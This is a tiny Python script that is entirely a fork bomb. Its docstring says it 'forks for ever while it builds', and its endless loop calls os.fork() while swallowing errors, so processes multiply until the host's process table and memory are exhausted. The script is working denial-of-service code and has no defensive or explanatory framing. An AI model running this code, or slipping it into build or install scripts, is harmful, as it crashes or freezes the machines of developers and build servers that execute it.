"""Forks for ever while it builds."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
